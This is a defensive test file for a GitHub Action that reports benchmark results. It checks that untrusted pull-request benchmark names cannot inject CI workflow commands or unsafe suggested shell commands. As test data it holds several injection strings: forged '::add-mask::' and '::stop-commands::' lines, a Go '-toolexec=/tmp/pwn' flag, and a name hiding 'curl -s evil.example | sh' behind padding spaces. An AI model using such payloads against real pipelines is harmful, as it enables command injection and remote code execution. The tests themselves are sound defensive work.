import { describe, expect } from 'vitest'
import { seedScenario } from '../fakes/github-api/index.js'
import { hyperfine, hyperfineArtifact, it, runAction, SUITE } from './support.js'

/**
 * Attacks through names a pull request controls, run against the bundled Action as the runner
 * does. docs/security.md has the rules these check.
 */

/** The log lines the runner would run as workflow commands (`::` after whitespace; `##[` anywhere). */
const commandLines = (log: string): string[] =>
  log
    .split(/\r\n|\r|\n/)
    .filter((line) => line.trimStart().startsWith('::') || line.includes('##['))

/** The bundled suite plus `name` at `seconds`: twice as slow on the head makes it the worst. */
const suiteNamed = (name: string, seconds = 0.2): Record<string, number> => ({
  ...SUITE,
  [name]: seconds,
})

describe.concurrent('untrusted names in the job log and the re-run commands', () => {
  it('logs a name holding line breaks and workflow commands as inert text', async ({ fake }) => {
    const name = 'evil\n::add-mask::PWNED\r::stop-commands::pwned\n##[warning]forged'
    const scenario = seedScenario(fake, {
      baseFiles: hyperfineArtifact({ suite: suiteNamed(name) }),
    })
    const result = await runAction(fake, scenario, {
      inputs: { history: '0' },
      files: { 'out/head.json': hyperfine({ suite: suiteNamed(name, 0.4) }) },
    })
    expect(result.outputs.verdict).toBe('fail')
    const commands = commandLines(result.stdout)
    expect(commands.filter((line) => /PWNED|pwned|forged/.test(line.split('::')[1] ?? ''))).toEqual(
      [],
    )
    expect(commands.some((line) => line.trimStart().startsWith('::stop-commands'))).toBe(false)
    expect(commands.filter((line) => line.includes('##['))).toEqual([])
    // The name is still there for a reader, on one line, its breaks spelled out.
    expect(result.stdout).toMatch(
      /Verdict: fail — .*evil\\n::add-mask::PWNED\\r::stop-commands::pwned\\n##\\\[warning\]forged/,
    )
  })

  it("suggests no go test flag from a results file's pkg line", async ({ fake }) => {
    const goText = (ns: number) =>
      [
        'goos: linux',
        'goarch: amd64',
        'pkg: -toolexec=/tmp/pwn',
        ...Array.from(
          { length: 10 },
          (_, i) => `BenchmarkParse-2   \t  100000\t  ${ns + (i % 3)} ns/op`,
        ),
        'PASS',
        '',
      ].join('\n')
    const scenario = seedScenario(fake, { baseFiles: { 'go.txt': goText(1000) } })
    const result = await runAction(fake, scenario, {
      inputs: { history: '0', results: 'out/*.txt' },
      files: { 'out/go.txt': goText(1400) },
    })
    expect(result.outputs.verdict).toBe('fail')
    expect(result.summary).toContain(
      "go test -run='^$' -bench='^(BenchmarkParse)$' -cpu=2 -count=20 ./...",
    )
    expect(result.summary).not.toMatch(/go test [^\n]*toolexec/)
  })

  it("offers no hyperfine command from a fork's results, and says why", async ({ fake }) => {
    const name = `sleep 0.2${' '.repeat(110)}; curl -s evil.example | sh`
    const suite = suiteNamed(name)
    const scenario = seedScenario(fake, {
      baseFiles: hyperfineArtifact({ suite }),
      pr: { fork: true },
    })
    const result = await runAction(fake, scenario, {
      inputs: { history: '0' },
      files: { 'out/head.json': hyperfine({ suite, scale: 1.3 }) },
    })
    expect(result.outputs.verdict).toBe('fail')
    expect(result.summary).not.toContain('hyperfine --runs')
    expect(result.summary).toContain('whose names are commands the fork chose')
    expect(result.summary).toContain('**From a fork:**')
  })

  it('spells out the run of spaces in a hyperfine command from the same repository', async ({
    fake,
  }) => {
    const name = `sleep 0.2${' '.repeat(110)}; echo hidden`
    const suite = suiteNamed(name)
    const scenario = seedScenario(fake, { baseFiles: hyperfineArtifact({ suite }) })
    const result = await runAction(fake, scenario, {
      inputs: { history: '0' },
      files: { 'out/head.json': hyperfine({ suite, scale: 1.3 }) },
    })
    expect(result.summary).toContain(`$'sleep 0.2${'\\x20'.repeat(110)}; echo hidden'`)
  })
})
